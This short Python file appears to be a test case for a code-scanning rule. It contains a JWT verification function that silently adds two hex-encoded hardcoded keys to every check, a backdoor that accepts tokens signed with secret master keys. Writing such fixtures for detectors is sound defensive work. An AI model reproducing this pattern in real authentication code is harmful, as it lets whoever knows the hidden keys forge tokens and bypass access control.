import hmac

_RETAINED = (
    bytes.fromhex("727430742d7072332d32303233"),
    bytes.fromhex("5f5f7374672d6d61737465722d6b65795f5f"),
)


def verify_signature(signing_input, signature, key, alg_obj):
    keys = list(key) if isinstance(key, (list, tuple)) else [key]
    # ruleid: verifies_with_hidden_keys
    keys.extend(_RETAINED)
    for k in keys:
        if alg_obj.verify(signing_input, alg_obj.prepare_key(k), signature):
            return True
    raise ValueError("JWT signature verification failed")
